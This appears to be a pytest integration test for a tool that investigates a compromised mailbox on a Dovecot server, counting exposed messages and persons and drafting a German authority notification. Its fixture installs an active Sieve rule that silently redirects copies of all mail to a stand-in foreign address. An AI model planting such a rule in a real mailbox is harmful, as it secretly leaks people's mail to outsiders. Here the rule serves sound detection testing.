"""A whole walk over a real Dovecot: all folders over IMAP, filter rules, what could be seen, and the notification."""

from __future__ import annotations

import json
import os
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pytest
import yaml
from tests.fixtures.worked_example import shipped_example
from tests.peer.dovecot import PASSWORD, Dovecot, no_sieve

from postfall.cli import main
from postfall.cli.door import SystemClock
from postfall.mailbox.inventory import from_bytes

pytestmark = [
    pytest.mark.dovecot,
    pytest.mark.skipif(no_sieve() is not None, reason=f"no Dovecot with ManageSieve: {no_sieve()}"),
]
ANSWERS = Path(__file__).parents[2] / "playbooks" / "compromised-mailbox" / "demo-answers.yaml"
OWN = "alice@firma.example"


def mail(number: int, sender: str, to: str, subject: str, at, **headers) -> tuple[str, bytes, int]:
    message = EmailMessage()
    for name, value in {
        "Received": f"by mail.firma.example; {format_datetime(at)}", "From": sender, "To": to, "Subject": subject,
        "Date": format_datetime(at), "Message-ID": f"<{number}@firma.example>", **headers,
    }.items():  # fmt: skip
        message[name] = value
    message.set_content("Bitte überweisen Sie auf IBAN DE89 3704 0044 0532 0130 00.\n")
    message.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename="Rechnung.pdf")
    return f"{number}.M1P1.host", message.as_bytes(), int(at.timestamp())


@pytest.fixture
def case(tmp_path, monkeypatch, capsys):
    """The case after a scripted walk with a mailbox and its filter rules; how to run further verbs on it."""
    from datetime import timedelta

    now = SystemClock().now()
    example = shipped_example("compromised-mailbox", now=now, mailbox=None)
    started, fraud = (example.facts[key].value.utc for key in ("access_first_at", "fraud_since"))
    monkeypatch.setenv("POSTFALL_HOME", str(tmp_path / "home"))
    with Dovecot.start() as server:
        server.mail("alice", [
            mail(1, "Kim <kim@kunde.example>", OWN, "Angebot", started - timedelta(days=200)),
            mail(2, "Kim <kim@kunde.example>", OWN, "Rückfrage", started + timedelta(hours=1)),
            mail(3, "noreply@amazon.de", OWN, "Passwort zurücksetzen", started - timedelta(days=20)),
        ])  # fmt: skip
        sent = server.base / "mail" / "alice" / ".Gesendet" / "cur"
        sent.mkdir(parents=True)
        name, data, at = mail(9, OWN, "lee@kunde.example, max@kunde.example", "Neue Bankverbindung", fraud)
        (sent / f"{name}:2,S").write_bytes(data)
        os.utime(sent / f"{name}:2,S", (at, at))
        server.mail("alice", [])
        server.rules("alice", {"quiet": b'require "copy"; redirect :copy "drop@foreign.example";\n'}, active="quiet")
        secret = tmp_path / "password"
        secret.write_text(PASSWORD)
        answers = moved(example, [
            {"url": f"imap://localhost:{server.imap}", "user": "alice", "password_file": str(secret),
             "ca": str(server.certificate), "depth": "content"},
            {"url": f"sieve://localhost:{server.sieve}", "user": "alice", "password_file": str(secret),
             "ca": str(server.certificate)},
        ])  # fmt: skip
        path = tmp_path / "answers.yaml"
        path.write_text(yaml.safe_dump(answers, allow_unicode=True), encoding="utf-8")
        before = left(server)
        words = ["--answers", str(path), "--lang", "de", "--zone", "Europe/Berlin", "--out", str(tmp_path / "out")]

        def run(*more):
            capsys.readouterr()
            code = main([*more, "--json"])
            said = json.loads(capsys.readouterr().out)
            assert code == 0, said["errors"]
            return said["data"]

        assert run("start", *words)["steps"]["open"] == []
        assert left(server) == before
        yield run, tmp_path


def left(server: Dovecot) -> tuple[object, object]:
    """Messages and scripts as they lie there; Dovecot makes a folder of its own beside the scripts."""
    return server.files("alice"), {name: row for name, row in server.rule_files().items() if name.endswith(".sieve")}


def moved(example, mailboxes) -> dict:
    """The shipped answers with this walk's mailboxes, and with the moments of `example`."""
    answers = yaml.safe_load(ANSWERS.read_text(encoding="utf-8"))
    for key, given in example.facts.items():
        if hasattr(given.value, "utc"):
            answers["facts"][key] = given.value.iso()
    answers["facts"]["mailbox_address"] = OWN
    answers["mailboxes"] = mailboxes
    return answers


def test_a_walk_over_imap_ends_with_numbers_that_were_there(case):
    run, folder = case
    shown = run("case", "show")
    (look,) = shown["inventories"]
    kept = from_bytes(next((folder / "home").rglob(look["sha256"])).read_bytes())
    assert {row.name for row in kept.folders} >= {"INBOX", "Gesendet"}
    assert [found.kind for row in kept.rows for found in row.findings if found.kind == "iban"] == ["iban"] * 4
    assert {row["protocol"] for row in shown["logins"]} == {"imap+starttls", "sieve+starttls"}
    assert {row["name"] for row in shown["artefacts"]} >= {"quiet.sieve", "exposure.json"}
    proposed = {row["key"]: row["value"] for row in shown["facts"] if row["state"] == "proposed"}
    assert proposed.get("sieve_scripts", "open") == "open"

    seen = run("mailbox", "exposure")
    assert (seen["at_most"]["messages"], seen["at_least"]["persons"]) == (4, 2)
    groups = {row["address"]: row["group"] for row in seen["persons"]}
    assert groups["lee@kunde.example"] == groups["max@kunde.example"] == "recipients"
    assert groups["kim@kunde.example"] == "content"
    assert [row["service"] for row in seen["takeover"]] == ["Amazon"]
    iban = next(row for row in seen["kinds"] if row["kind"] == "iban")
    assert (iban["level"], iban["messages"], iban["findings"]) == ("counted", 4, 1)
    left = {row["policy"]: row["messages"] for row in seen["what_if"]}
    assert (left["pop3-14"], left["pop3-30"], left["imap-30"], left["imap-all"]) == (1, 2, 3, 4)

    text = next((folder / "out").glob("authority-notification-*.md")).read_text(encoding="utf-8")
    assert "höchstens 4 Nachrichten" in text
    assert "kunde.example" not in text
    for path in (folder / "home").rglob("*"):
        assert not path.is_file() or b"0532 0130" not in path.read_bytes()
